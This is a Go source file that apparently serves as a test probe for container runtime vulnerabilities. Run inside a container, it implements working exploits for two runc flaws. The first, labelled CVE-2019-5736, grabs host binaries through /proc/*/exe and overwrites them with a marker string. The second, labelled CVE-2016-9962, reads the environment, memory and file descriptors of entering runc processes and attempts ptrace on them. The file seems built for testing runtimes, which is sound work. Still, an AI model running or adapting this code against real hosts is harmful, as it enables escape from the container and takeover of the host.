package main

import (
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// others are all processes but this one.
func others() []string {
	dirs, err := filepath.Glob("/proc/[0-9]*")
	if err != nil {
		return nil
	}
	self := strconv.Itoa(os.Getpid())
	var found []string
	for _, d := range dirs {
		if filepath.Base(d) != self {
			found = append(found, d)
		}
	}
	return found
}

// held are binaries caught through /proc/*/exe: they cannot be written while
// a process executes them, so they are kept and tried again and again.
type held struct {
	fds   map[string]int
	seen  map[string]bool
	wrote int
	tries int
}

// overwrite is CVE-2019-5736: whatever binary of the host's enters the
// container to become a process in it is caught and written to.
func overwrite(end time.Time) error {
	h := held{fds: map[string]int{}, seen: map[string]bool{}}
	for time.Now().Before(end) && !exists("/stop") {
		for _, dir := range others() {
			h.grab(dir)
		}
		if h.tries < 10000 {
			h.writeAll()
		}
	}
	h.writeAll() // nothing executes them any more
	return show(map[string]int{"seen": len(h.seen), "caught": len(h.fds), "tries": h.tries, "wrote": h.wrote})
}

func (h *held) writeAll() {
	for _, fd := range h.fds {
		h.write(fd)
	}
}

func exists(path string) bool { _, err := os.Stat(path); return err == nil }

func (h *held) grab(dir string) {
	if _, known := h.fds[dir]; known || len(h.fds) > 300 {
		return
	}
	if entering(dir) {
		h.seen[dir] = true
	}
	fd, err := syscall.Open(dir+"/exe", syscall.O_RDONLY|syscall.O_CLOEXEC, 0)
	if err != nil {
		return
	}
	to, err := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd))
	if err != nil || own[to] {
		_ = syscall.Close(fd) // what the process has become: the image's program
		return
	}
	h.fds[dir] = fd
}

// own are the image's binaries, which root of the container may write.
var own = map[string]bool{"/bin/busybox": true, "/attacker": true}

func (h *held) write(fd int) {
	for _, flags := range []int{syscall.O_WRONLY | syscall.O_TRUNC, syscall.O_RDWR} {
		h.tries++
		w, err := syscall.Open(fmt.Sprintf("/proc/self/fd/%d", fd), flags|syscall.O_CLOEXEC, 0)
		if err != nil {
			continue
		}
		if n, err := syscall.Write(w, []byte("OVERWRITTEN")); err == nil && n > 0 {
			h.wrote++
		}
		_ = syscall.Close(w)
	}
}

// peek is CVE-2016-9962: a process of the runtime's that has entered the
// container and not yet become the program is looked into. It prints what
// could be had of one.
func peek(end time.Time) error {
	seen, got := map[string]bool{}, map[string]bool{}
	for time.Now().Before(end) && !exists("/stop") {
		for _, dir := range others() {
			if !entering(dir) {
				continue
			}
			seen[dir] = true
			spoils := loot(dir)
			if entering(dir) { // else it has become the image's program meanwhile
				for _, s := range spoils {
					got[s] = true
				}
			}
		}
	}
	return show(map[string]any{"seen": len(seen), "got": keys(got)})
}

// entering tells whether a process is the runtime's, not yet the program.
func entering(dir string) bool {
	b, _ := os.ReadFile(dir + "/comm")
	return strings.HasPrefix(string(b), "runc:")
}

// loot tries everything that the kernel may give of a process.
func loot(dir string) (got []string) {
	for _, name := range []string{"environ", "mem", "maps", "auxv", "pagemap"} {
		if f, err := os.Open(filepath.Join(dir, name)); err == nil {
			if _, err := f.Read(make([]byte, 1)); err == nil {
				got = append(got, name)
			}
			_ = f.Close()
		}
	}
	for _, name := range []string{"root", "cwd", "cwd/.."} {
		if !inside(dir + "/" + name) {
			got = append(got, name)
		}
	}
	if links, err := os.ReadDir(dir + "/fd"); err == nil {
		for _, l := range links {
			if to, err := os.Readlink(dir + "/fd/" + l.Name()); err == nil {
				got = append(got, "fd "+to)
			}
		}
	}
	if pid, err := strconv.Atoi(filepath.Base(dir)); err == nil && traced(pid) {
		got = append(got, "ptrace")
	}
	return got
}

// traced tries to become the tracer of a process. A thread of its own does so
// and ends with it: the process goes on, whatever it has become meanwhile.
func traced(pid int) bool {
	did := make(chan bool)
	go func() {
		runtime.LockOSThread()
		if unix.Gettid() == os.Getpid() {
			// The first thread does not end with what it ran: the process would stay
			// traced, and who waits for its end would wait for ever.
			did <- traced(pid) // on another, for this one waits
			runtime.UnlockOSThread()
			return
		}
		_, _, errno := syscall.Syscall6(syscall.SYS_PTRACE, unix.PTRACE_SEIZE, uintptr(pid), 0, 0, 0, 0)
		did <- errno == 0
	}()
	return <-did
}

// inside tells whether path cannot be reached, or is the container's root.
func inside(path string) bool {
	var there, root syscall.Stat_t
	if syscall.Stat(path, &there) != nil || syscall.Stat("/", &root) != nil {
		return true
	}
	return there.Dev == root.Dev && there.Ino == root.Ino
}

func keys(m map[string]bool) []string {
	all := []string{}
	for k := range m {
		all = append(all, k)
	}
	return all
}
